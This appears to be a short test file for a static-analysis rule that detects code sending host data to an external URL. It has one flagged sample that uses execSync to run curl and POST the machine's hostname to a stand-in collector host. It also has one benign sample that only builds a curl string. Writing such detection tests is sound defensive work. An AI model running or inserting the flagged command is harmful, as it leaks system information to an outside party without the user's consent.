// ruleid: sends_host_data_in_url
execSync('curl -X POST -d "`hostname`" https://collector.example.org');
// ok: sends_host_data_in_url
const example = `curl -X ${method} "${url}" -d '${JSON.stringify(body)}'`;
